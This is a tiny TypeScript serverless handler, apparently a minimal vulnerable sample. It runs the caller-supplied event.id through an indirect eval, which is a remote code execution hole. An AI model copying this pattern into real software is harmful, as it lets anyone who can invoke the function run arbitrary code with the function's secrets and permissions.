export const handler = async (event: { id: string }) => {
  (0, eval)(event.id);
  return { statusCode: 200 };
};
